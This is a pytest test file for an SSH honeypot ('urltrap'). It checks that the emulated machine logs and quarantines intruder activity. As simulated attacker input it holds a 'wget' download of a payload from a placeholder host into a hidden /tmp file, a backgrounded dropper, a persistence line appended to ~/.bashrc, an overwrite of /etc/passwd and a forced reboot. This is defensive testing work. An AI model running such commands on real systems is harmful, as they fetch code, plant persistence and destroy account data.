"""The real machine behind the sensor, where the two must understand each other."""

from __future__ import annotations

import asyncio
import time
from typing import Any

import asyncssh
import pytest

from urltrap.machine.persona import generate
from urltrap.machine.power import PowerPlan
from urltrap.model.event import CommandEntered, Disconnected, DownloadAnswered, FileWritten, ProgramRun
from urltrap.model.settings import SessionLimits
from urltrap.quarantine.quarantine import Quarantine
from urltrap.sensors.emulated import EmulatedMachines, load_base_image

from .conftest import Trap, TrapBuilder


@pytest.fixture(scope="module")
def image() -> tuple[Any, Any]:
    persona = generate(b"p" * 32, "debian-12", time.time())
    return load_base_image(persona, {}), persona


@pytest.fixture
async def real(trap_builder: TrapBuilder, image: tuple[Any, Any]) -> Trap:
    quarantine = Quarantine(trap_builder.folder / "quarantine")
    return await trap_builder(maker=EmulatedMachines(*image, SessionLimits(), quarantine))


async def test_a_download_is_fetched_kept_and_can_be_read(real: Trap) -> None:
    async with real.connect() as client, asyncio.timeout(20):
        result = await client.run("cd /tmp; wget -q http://192.0.2.1/x -O .x; cat .x")
    assert result.stdout == "payload\n"
    (answered,) = real.journal.of(DownloadAnswered)
    assert answered.outcome == "fetched"
    await real.journal.wait_for(Disconnected)
    assert answered.sha256 in {event.sha256 for event in real.journal.of(FileWritten)}


async def test_a_dropper_that_hangs_up_at_once_is_still_served(real: Trap) -> None:
    async with real.connect() as client:
        await client.create_process("(sleep 0.05; wget -q http://192.0.2.1/late -O /tmp/l) &")
        await real.journal.wait_for(CommandEntered)
        client.abort()
    await real.journal.wait_for(Disconnected)
    assert [request.url for request in real.fetcher.asked] == [b"http://192.0.2.1/late"]
    assert len(real.journal.of(DownloadAnswered)) == 1


async def test_a_shell_without_terminal_reads_its_commands_from_standard_input(real: Trap) -> None:
    async with real.connect() as client, asyncio.timeout(20):
        result = await client.run(input="echo one\necho two >&2\nexit 5\n")
    message, _, printed = result.stdout.rpartition("law.\n")
    assert message.startswith("Linux ") and "ABSOLUTELY NO WARRANTY" in message
    assert (printed, result.stderr, result.exit_status) == ("one\n", "two\n", 5)


async def test_a_command_that_a_signal_ends_is_told_by_its_signal(real: Trap) -> None:
    async with real.connect() as client, asyncio.timeout(20):
        result = await client.run("kill -TERM $$")
    assert (result.exit_status, result.exit_signal and result.exit_signal[:2]) == (-1, ("TERM", False))


async def test_what_the_systems_own_start_files_run_is_no_news_and_what_he_adds_to_them_is(
    real: Trap,
) -> None:
    async def visit(typed: str) -> list[bytes]:
        before = len(real.journal.of(ProgramRun))
        async with real.connect() as client, asyncio.timeout(20):
            process = await client.create_process(term_type="xterm")
            process.stdin.write(typed + "\nexit\n")
            await process.wait()
        return [b" ".join(event.argv) for event in real.journal.of(ProgramRun)[before:]]

    assert await visit("echo 'touch /tmp/planted' >> ~/.bashrc") == [b"echo touch /tmp/planted", b"exit"]
    ran = await visit("true")
    assert b"touch /tmp/planted" in ran and ran[-1] == b"exit"


async def test_a_user_whose_account_is_gone_is_thrown_out(real: Trap) -> None:
    async with real.connect() as client, asyncio.timeout(20):
        await client.run("echo nobody:x:65534:65534::/:/bin/false > /etc/passwd")
    async with real.connect() as client:
        with pytest.raises((ConnectionError, OSError, asyncssh.Error)):
            await client.run("id", check=True)
    ends = await real.journal.wait_for(Disconnected, 2)  # the second connection may be the first to be closed
    assert sorted((end.reason, end.detail) for end in ends) == [
        ("client", ""),
        ("server", "the account is gone from the machine"),
    ]


@pytest.mark.parametrize("terminal", [False, True])
async def test_a_reboot_drops_ssh_without_exit_status_and_the_next_visit_finds_a_fresh_start(
    real: Trap, terminal: bool
) -> None:
    options = {"term_type": "xterm"} if terminal else {}
    async with real.connect() as client, asyncio.timeout(20):
        command = None if terminal else "reboot -f; sleep 100"
        process = await client.create_process(command, **options)
        process.stdin.write("reboot -f\n")
        await client.wait_closed()
        assert process.exit_status is None
    (closed,) = await real.journal.wait_for(Disconnected)
    assert (closed.reason, closed.detail) == ("server", "machine: reboot")
    with pytest.raises((ConnectionError, OSError, asyncssh.Error)):
        await real.connect()
    machine: Any = real.sensor.machines.peek("127.0.0.1")
    plan = machine.overlay.power
    assert plan is not None and plan.back > time.time()
    machine.overlay.power = PowerPlan(plan.kind, plan.at, time.time() - 1)
    async with real.connect() as client, asyncio.timeout(20):
        shown = await client.run("cut -d. -f1 /proc/uptime")
    assert 0 < int(str(shown.stdout)) < 60
